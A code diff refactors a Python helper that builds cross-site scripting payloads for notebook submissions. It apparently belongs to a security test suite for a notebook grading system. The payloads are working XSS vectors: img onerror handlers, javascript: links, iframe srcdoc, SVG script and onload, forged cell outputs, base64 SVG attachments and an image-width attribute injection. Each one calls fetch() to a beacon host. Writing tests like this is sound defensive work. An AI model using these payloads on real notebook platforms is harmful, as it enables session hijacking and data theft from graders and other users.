@@ -50,6 +50,10 @@ def script(kind: str, beacon: str = BEACON, slashless: bool = False) -> str:
     return f"document.title='{MARKER}-{kind}';fetch('{beacon}/{kind}')"
 
 
+#: The scripts a payload kind carries besides its own: ``forged-output`` also adds a raw cell and an SVG attachment.
+EXTRA_SCRIPTS = {"forged-output": ("raw-cell", "attachment")}
+
+
 def payloads(beacon: str = BEACON) -> dict[str, dict]:
     """Every kind of browser payload, as what the submission holds.
 
@@ -59,39 +63,38 @@ def payloads(beacon: str = BEACON) -> dict[str, dict]:
         kind → ``{"markdown": str}`` (a Markdown cell), ``{"code": str}`` (prepended to the
         softmax answer, runs at grading), or ``{"json": callable(nb)}`` (an edit of the notebook JSON).
     """
-    js = {kind: script(kind, beacon) for kind in ("markdown-html", "display-html", "javascript", "svg", "link",
-                                                     "iframe", "forged-output", "raw-cell", "attachment",
-                                                     "mermaid", "image-size")}
+    def js(name):  # the script named for where it sits (a kind, or one of EXTRA_SCRIPTS)
+        return script(name, beacon)
 
     def html_payload(kind):
-        return f"<img src=x onerror=\"{js[kind]}\">"
+        return f"<img src=x onerror=\"{js(kind)}\">"
 
-    svg_payload = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{js['svg']}</script></svg>"
+    svg_payload = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{js('svg')}</script></svg>"
 
     def forged_output(nb):
         cell = next(c for c in nb.cells if nbgrader_meta(c).get("grade_id") == "softmax")
         cell.outputs = [nbformat.v4.new_output("display_data", data={
-            "text/html": f"<img src=x onerror=\"{js['forged-output']}\">",
-            "application/javascript": js["forged-output"], "text/plain": "forged"})]
-        nb.cells.insert(1, nbformat.v4.new_raw_cell(f"<img src=x onerror=\"{js['raw-cell']}\">"))
-        svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{js['attachment']}\"><script>{js['attachment']}</script></svg>"
+            "text/html": f"<img src=x onerror=\"{js('forged-output')}\">",
+            "application/javascript": js("forged-output"), "text/plain": "forged"})]
+        nb.cells.insert(1, nbformat.v4.new_raw_cell(f"<img src=x onerror=\"{js('raw-cell')}\">"))
+        svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{js('attachment')}\"><script>{js('attachment')}</script></svg>"
         attached = nbformat.v4.new_markdown_cell("![figure](attachment:figure.svg)")
         attached.attachments = {"figure.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()}}
         nb.cells.insert(1, attached)
 
     return {
-        "markdown-html": {"markdown": f"<img src=x onerror=\"{js['markdown-html']}\">"},
-        "link": {"markdown": f"[click me](javascript:{js['link']})"},
-        "iframe": {"markdown": f"<iframe srcdoc=\"<script>parent.{js['iframe']}</script>\"></iframe>"
+        "markdown-html": {"markdown": f"<img src=x onerror=\"{js('markdown-html')}\">"},
+        "link": {"markdown": f"[click me](javascript:{js('link')})"},
+        "iframe": {"markdown": f"<iframe srcdoc=\"<script>parent.{js('iframe')}</script>\"></iframe>"
                                f"<form action='{beacon}/form'><input type=submit></form>"},
-        "mermaid": {"markdown": f"```mermaid\n<img src=x onerror=\"{js['mermaid']}\">\n```"},
+        "mermaid": {"markdown": f"```mermaid\n<img src=x onerror=\"{js('mermaid')}\">\n```"},
         "display-html": {"code": "from IPython.display import HTML, display\n"
                                  f"display(HTML({html_payload('display-html')!r}))"},
-        "javascript": {"code": f"from IPython.display import Javascript, display\ndisplay(Javascript({js['javascript']!r}))"},
+        "javascript": {"code": f"from IPython.display import Javascript, display\ndisplay(Javascript({js('javascript')!r}))"},
         "svg": {"code": "from IPython.display import SVG, display\n"
                         f"display(SVG({svg_payload!r}))"},
         "image-size": {"code": "from IPython.display import Image, display\nimport base64\n"
-                               f"display(Image(base64.b64decode({PNG!r}), width={'4 onerror=' + js['image-size']!r}))"},
+                               f"display(Image(base64.b64decode({PNG!r}), width={'4 onerror=' + js('image-size')!r}))"},
         "forged-output": {"json": forged_output},
     }
 
@@ -99,10 +102,10 @@ def payloads(beacon: str = BEACON) -> dict[str, dict]:
 def scripts_of(kind: str) -> tuple[str, ...]:
     """The script kinds (``PWNED-<script kind>`` in :func:`script`) that payload ``kind`` of :func:`payloads` carries.
 
-    Most carry their own; ``forged-output`` also adds a raw cell (``raw-cell``) and an SVG attachment
-    (``attachment``). With every payload in one notebook, these say which cells hold which payload.
+    Each carries its own, and those of :data:`EXTRA_SCRIPTS`. With every payload in one notebook, these say which
+    cells hold which payload.
     """
-    return ("forged-output", "raw-cell", "attachment") if kind == "forged-output" else (kind,)
+    return (kind, *EXTRA_SCRIPTS.get(kind, ()))
 
 
 def cell_text(cell) -> str:
